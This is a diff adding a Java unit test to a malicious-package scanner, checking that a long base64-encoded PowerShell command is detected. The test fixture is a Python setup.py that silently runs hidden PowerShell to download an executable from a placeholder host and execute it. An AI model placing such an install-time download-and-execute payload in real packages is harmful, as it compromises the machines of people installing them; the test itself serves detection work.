@@ -175,4 +175,17 @@ class RulesTest {
                 + "    subprocess.run(['tar', 'xf', '-'], input=data)\n");
         assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
     }
+
+    @Test
+    void aLongPowerShellCommandLineWithAnEncodedCommandIsReadAsACommandNotAsBase64() throws Exception {
+        // The whole line passes the base64 alphabet check (letters, spaces, hyphens); it does not decode, so it
+        // is a command line. 2,233 train samples of one campaign were allowed while it was read only "decoded".
+        String encoded = java.util.Base64.getEncoder().encodeToString(("powershell Invoke-WebRequest -Uri https://x.example/e.exe"
+                + " -OutFile ~/c.exe; Invoke-Expression ~/c.exe").getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
+        AnalysisResult r = sdist("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + encoded
+                + "', shell=False)\nfrom distutils.core import setup\nsetup(name='demo')\n");
+        assertTrue(encoded.length() > 256, "long enough to take the decoded-only path");
+        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
+        assertTrue(rules(r).contains("download_and_execute"), r.findings().toString());
+    }
 }
